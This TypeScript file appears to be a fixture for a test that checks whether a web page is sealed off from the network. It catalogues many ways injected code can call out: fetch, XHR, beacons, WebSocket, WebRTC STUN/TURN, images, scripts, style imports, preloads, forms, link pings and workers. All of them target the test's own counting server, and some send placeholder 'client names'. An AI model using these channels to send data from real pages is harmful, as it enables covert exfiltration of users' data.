/** Where the attempts try to get to. */
export type Target = {
  /** A server of the test's own that counts everything that reaches it. */
  http: string
  /** The same server without the scheme. */
  host: string
  /** A file of this computer that the page has no business with. */
  file: string
}

/**
 * Runs inside the page, as foreign code would that found a way into it. Resolves with true when it got what it
 * wanted; calls and navigations that it caused are seen by the server and by the window's address.
 * One with an import() is text, for the test runner would rewrite it.
 */
export type Attempt = ((target: Target) => unknown) | string

/** Calling out, by every way that a page has. The server counts. */
export const network: Record<string, Attempt> = {
  'fetch, GET': ({ http }) => fetch(`${http}/fetch`),
  'fetch, POST with data': ({ http }) => fetch(`${http}/post`, { method: 'POST', body: 'client names' }),
  'fetch without CORS': ({ http }) => fetch(`${http}/no-cors`, { mode: 'no-cors' }),
  'fetch that outlives the page': ({ http }) =>
    fetch(`${http}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  XMLHttpRequest: ({ http }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${http}/xhr`)
    request.send()
  },
  'synchronous XMLHttpRequest': ({ http }) => {
    const request = new XMLHttpRequest()
    request.open('POST', `${http}/xhr-sync`, false)
    request.send('client names')
  },
  sendBeacon: ({ http }) => navigator.sendBeacon(`${http}/beacon`, 'client names') && undefined,
  EventSource: ({ http }) => void new EventSource(`${http}/events`),
  WebSocket: ({ host }) => void new WebSocket(`ws://${host}/socket`),
  WebTransport: ({ host }) => new WebTransport(`https://${host}/transport`).ready,
  'a STUN server': async ({ host }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] })
    connection.createDataChannel('names')
    await connection.setLocalDescription(await connection.createOffer())
  },
  'a TURN server over TCP': async ({ host }) => {
    const servers = [{ urls: `turn:${host}?transport=tcp`, username: 'names', credential: 'x' }]
    const connection = new RTCPeerConnection({ iceServers: servers, iceTransportPolicy: 'relay' })
    connection.createDataChannel('names')
    await connection.setLocalDescription(await connection.createOffer())
  },
  'a picture': ({ http }) => {
    new Image().src = `${http}/picture`
  },
  'a picture in SVG': ({ http }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg><image href="${http}/svg" width="9" height="9"/></svg>`,
    )
  },
  'a picture set': ({ http }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<picture><source srcset="${http}/set"><img alt=""></picture>`,
    )
  },
  'a script': ({ http }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `${http}/script.js` }))
  },
  'a module script': ({ http }) => {
    const script = Object.assign(document.createElement('script'), {
      src: `${http}/module.js`,
      type: 'module',
    })
    document.head.append(script)
  },
  'a dynamic import': '({ http }) => import(http + "/import.js")',
  'a style sheet': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${http}/style.css">`)
  },
  'a style sheet imported by a style': ({ http }) => {
    const style = document.createElement('style')
    style.nonce = document.querySelector<HTMLMetaElement>('meta[property=csp-nonce]')?.nonce ?? ''
    style.textContent = `@import url('${http}/import.css'); body { background: url('${http}/background') }`
    document.head.append(style)
  },
  'a style attribute': ({ http }) => {
    document.body.style.background = `url('${http}/attribute')`
  },
  'a font': ({ http }) => new FontFace('Foreign', `url('${http}/font.woff2')`).load(),
  'a preload': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="preload" as="image" href="${http}/preload">`)
  },
  'a module preload': ({ http }) => {
    document.head.insertAdjacentHTML(
      'beforeend',
      `<link rel="modulepreload" href="${http}/modulepreload.js">`,
    )
  },
  'a prefetch': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${http}/prefetch">`)
  },
  'a connection ahead of a request': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="${http}">`)
  },
  'a speculation rule': ({ http }) => {
    const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' })
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${http}/speculation`] }] })
    document.head.append(rules)
  },
  'an icon': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="icon" href="${http}/icon.png">`)
  },
  'a manifest': ({ http }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="manifest" href="${http}/manifest.json">`)
  },
  'a video': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<video autoplay muted src="${http}/video.mp4"></video>`)
  },
  'a sound': ({ http }) => new Audio(`${http}/sound.mp3`).play(),
  'a text track': ({ http }) => {
    const track = `<video><track default kind="captions" src="${http}/track.vtt"></video>`
    document.body.insertAdjacentHTML('beforeend', track)
  },
  'an object': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<object data="${http}/object"></object>`)
  },
  'an embedded document': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<embed src="${http}/embed">`)
  },
  'an iframe': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<iframe src="${http}/iframe"></iframe>`)
  },
  'a webview': ({ http }) => {
    document.body.insertAdjacentHTML('beforeend', `<webview src="${http}/webview"></webview>`)
  },
  'a form, GET': ({ http }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form action="${http}/form"><input name="n" value="x"></form>`,
    )
    document.querySelector<HTMLFormElement>('form:last-of-type')?.submit()
  },
  'a form, POST into a new window': ({ http }) => {
    const form = `<form action="${http}/form-post" method="post" target="_blank"><input name="n" value="x"></form>`
    document.body.insertAdjacentHTML('beforeend', form)
    document.querySelector<HTMLFormElement>('form[target]')?.submit()
  },
  'the ping of a link': ({ http }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: `${http}/ping` })
    document.body.append(link)
    link.click()
  },
  'a worker': ({ http }) => void new Worker(`${http}/worker.js`),
  'a shared worker': ({ http }) => void new SharedWorker(`${http}/shared-worker.js`),
  'a background fetch by a service worker': async () => {
    await navigator.serviceWorker.register('/service-worker.js')
    return true
  },
}
